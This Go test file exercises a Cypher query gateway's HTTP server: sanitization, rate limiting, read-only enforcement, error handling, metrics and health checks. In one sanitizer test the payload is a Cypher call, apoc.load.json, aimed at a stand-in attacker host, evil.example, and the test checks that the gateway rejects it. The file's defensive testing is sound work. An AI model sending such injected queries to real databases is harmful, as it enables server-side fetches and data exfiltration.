package server

import (
	"context"
	"encoding/json"
	"errors"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"

	"github.com/rs/zerolog"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/cyphergate/cyphergate/cmd/server/config"
	"github.com/cyphergate/cyphergate/cmd/server/middleware"
	"github.com/cyphergate/cyphergate/pkg/gateway"
	"github.com/cyphergate/cyphergate/pkg/infrastructure/metrics"
	"github.com/cyphergate/cyphergate/pkg/ratelimit"
	"github.com/cyphergate/cyphergate/pkg/readonly"
)

var _ middleware.MetricsCollector = (*middlewareMetricsAdapter)(nil)

type stubExecutor struct {
	records []map[string]any
	err     error
}

func (s *stubExecutor) Execute(context.Context, string, map[string]any) ([]map[string]any, error) {
	return s.records, s.err
}

type stubPinger struct{ err error }

func (s *stubPinger) Ping(context.Context) error { return s.err }

func testServer(t *testing.T, mutate func(*config.Config)) http.Handler {
	t.Helper()
	cfg := config.DefaultConfig()
	cfg.Gateway.Audit.LogDirectory = t.TempDir()
	if mutate != nil {
		mutate(cfg)
	}
	require.NoError(t, cfg.Validate())

	gw, err := gateway.New(cfg.Gateway, &stubExecutor{records: []map[string]any{{"n": 1}}}, nil)
	require.NoError(t, err)
	t.Cleanup(gw.Close)

	return New(cfg, zerolog.Nop(), gw, &stubPinger{}).Handler(nil)
}

func postQuery(t *testing.T, h http.Handler, body string) (*httptest.ResponseRecorder, queryResponse) {
	t.Helper()
	req := httptest.NewRequest(http.MethodPost, "/v1/query", strings.NewReader(body))
	rec := httptest.NewRecorder()
	h.ServeHTTP(rec, req)

	var resp queryResponse
	if rec.Body.Len() > 0 {
		_ = json.Unmarshal(rec.Body.Bytes(), &resp)
	}
	return rec, resp
}

func TestServer_QueryAccepted(t *testing.T) {
	h := testServer(t, nil)

	rec, resp := postQuery(t, h, `{"query": "MATCH (n) RETURN n"}`)

	assert.Equal(t, http.StatusOK, rec.Code)
	assert.True(t, resp.Accepted)
	assert.Equal(t, "MATCH (n) RETURN n LIMIT 100", resp.FinalQuery)
	assert.Len(t, resp.Records, 1)
}

func TestServer_QueryRejectedBySanitizer(t *testing.T) {
	h := testServer(t, nil)

	rec, resp := postQuery(t, h, `{"query": "CALL apoc.load.json('http://evil.example')"}`)

	assert.Equal(t, http.StatusBadRequest, rec.Code)
	assert.False(t, resp.Accepted)
	assert.Equal(t, "sanitization", resp.Stage)
	assert.NotEmpty(t, resp.Reason)
}

func TestServer_QueryRateLimited(t *testing.T) {
	h := testServer(t, func(cfg *config.Config) {
		cfg.Gateway.RateLimit = ratelimit.Config{
			Enabled:           true,
			RequestsPerWindow: 10,
			WindowSeconds:     60,
			BurstSize:         1,
		}
	})

	rec, _ := postQuery(t, h, `{"query": "MATCH (n) RETURN n LIMIT 1"}`)
	require.Equal(t, http.StatusOK, rec.Code)

	rec, resp := postQuery(t, h, `{"query": "MATCH (n) RETURN n LIMIT 1"}`)
	assert.Equal(t, http.StatusTooManyRequests, rec.Code)
	assert.Equal(t, "rate_limit", resp.Stage)
	assert.Greater(t, resp.RetryAfter, 0.0)
	assert.NotEmpty(t, rec.Header().Get("Retry-After"))
}

func TestServer_QueryReadOnlyViolation(t *testing.T) {
	h := testServer(t, func(cfg *config.Config) {
		cfg.Gateway.ReadOnly = readonly.Config{Enabled: true}
	})

	rec, resp := postQuery(t, h, `{"query": "CREATE (n:Node) RETURN n"}`)

	assert.Equal(t, http.StatusForbidden, rec.Code)
	assert.Equal(t, "read_only", resp.Stage)
	assert.Contains(t, resp.Reason, "CREATE")
}

func TestServer_InvalidBody(t *testing.T) {
	h := testServer(t, nil)

	rec, _ := postQuery(t, h, `{not json`)
	assert.Equal(t, http.StatusBadRequest, rec.Code)
}

func TestServer_ExecutionFailure(t *testing.T) {
	cfg := config.DefaultConfig()
	cfg.Gateway.Audit.LogDirectory = t.TempDir()
	require.NoError(t, cfg.Validate())

	gw, err := gateway.New(cfg.Gateway, &stubExecutor{err: errors.New("down")}, nil)
	require.NoError(t, err)
	defer gw.Close()

	h := New(cfg, zerolog.Nop(), gw, nil).Handler(nil)

	rec, resp := postQuery(t, h, `{"query": "MATCH (n) RETURN n LIMIT 1"}`)
	assert.Equal(t, http.StatusBadGateway, rec.Code)
	assert.Equal(t, "execution", resp.Stage)
}

type recordingCollector struct {
	mu       sync.Mutex
	counters map[string]int
}

func (c *recordingCollector) IncrementCounter(name string, labels ...string) {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.counters[name]++
}

func (c *recordingCollector) RecordHistogram(string, float64, ...string) {}
func (c *recordingCollector) RecordGauge(string, float64, ...string)     {}

func (c *recordingCollector) StartTimer(string) metrics.Timer { return stubTimer{} }

type stubTimer struct{}

func (stubTimer) Stop() float64 { return 0 }

func TestServer_RequestMetricsRecorded(t *testing.T) {
	cfg := config.DefaultConfig()
	cfg.Gateway.Audit.LogDirectory = t.TempDir()
	require.NoError(t, cfg.Validate())

	gw, err := gateway.New(cfg.Gateway, &stubExecutor{}, nil)
	require.NoError(t, err)
	defer gw.Close()

	collector := &recordingCollector{counters: make(map[string]int)}
	h := New(cfg, zerolog.Nop(), gw, nil).Handler(collector)

	rec, _ := postQuery(t, h, `{"query": "MATCH (n) RETURN n LIMIT 1"}`)
	require.Equal(t, http.StatusOK, rec.Code)

	collector.mu.Lock()
	defer collector.mu.Unlock()
	assert.Equal(t, 1, collector.counters["http_requests_total"])
	assert.Equal(t, 1, collector.counters["http_responses_total"])
}

func TestServer_Health(t *testing.T) {
	t.Run("healthy", func(t *testing.T) {
		h := testServer(t, nil)
		rec := httptest.NewRecorder()
		h.ServeHTTP(rec, httptest.NewRequest(http.MethodGet, "/healthz", nil))
		assert.Equal(t, http.StatusOK, rec.Code)
	})

	t.Run("unhealthy backing store", func(t *testing.T) {
		cfg := config.DefaultConfig()
		cfg.Gateway.Audit.LogDirectory = t.TempDir()
		require.NoError(t, cfg.Validate())

		gw, err := gateway.New(cfg.Gateway, nil, nil)
		require.NoError(t, err)
		defer gw.Close()

		h := New(cfg, zerolog.Nop(), gw, &stubPinger{err: errors.New("down")}).Handler(nil)

		rec := httptest.NewRecorder()
		h.ServeHTTP(rec, httptest.NewRequest(http.MethodGet, "/healthz", nil))
		assert.Equal(t, http.StatusServiceUnavailable, rec.Code)
	})
}
